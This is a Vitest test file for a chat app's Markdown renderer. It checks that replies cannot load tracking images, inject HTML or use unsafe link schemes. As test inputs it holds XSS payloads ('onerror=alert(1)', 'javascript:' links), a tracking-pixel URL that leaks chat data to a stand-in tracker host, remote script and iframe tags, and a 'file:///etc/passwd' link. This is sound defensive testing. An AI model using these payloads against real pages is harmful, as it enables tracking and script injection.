import { Tooltip } from "radix-ui";
import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import Markdown from "../../src/web/features/messages/Markdown.tsx";

function render(markdown: string): string {
  return renderToStaticMarkup(
    <Tooltip.Provider>
      <Markdown live={false}>{markdown}</Markdown>
    </Tooltip.Provider>,
  );
}

test("[A17] a reply cannot make the page load an image, which would tell a stranger what is being read", () => {
  const html = render("![a map](https://tracker.example/pixel.png?chat=secret)");
  expect(html).not.toContain("<img");
  expect(html).toContain("a map");
});

test("[B36] HTML in a reply is shown as text and makes no element", () => {
  const html = render(
    'before <iframe src="https://tracker.example"></iframe> <img src=x onerror=alert(1)> <style>*{}</style> after\n\n<script src="https://tracker.example/t.js"></script>',
  );
  expect(html).not.toMatch(/<(?:iframe|img|style|script|link)/);
  expect(html).toContain("&lt;iframe");
});

test("links lead only to web and mail addresses, and tell the other side nothing", () => {
  const html = render(
    "[web](https://example.com) [mail](mailto:ada@example.com) [script](javascript:alert(1)) [data](data:text/html,x) [file](file:///etc/passwd)",
  );
  expect(html.match(/href="[^"]*"/g)).toEqual(['href="https://example.com"', 'href="mailto:ada@example.com"']);
  expect(html.match(/rel="noopener noreferrer nofollow"/g)).toHaveLength(5);
});

test("code is shown as it was written, with the name of its language", () => {
  const html = render("Use `a < b` or:\n\n```ts\nif (a < b) {\n  run();\n}\n```\n");
  expect(html).toContain("<code>a &lt; b</code>");
  expect(html).toContain("<code>if (a &lt; b) {\n  run();\n}</code>");
  expect(html).toMatch(/<figcaption[^>]*>ts/);
});
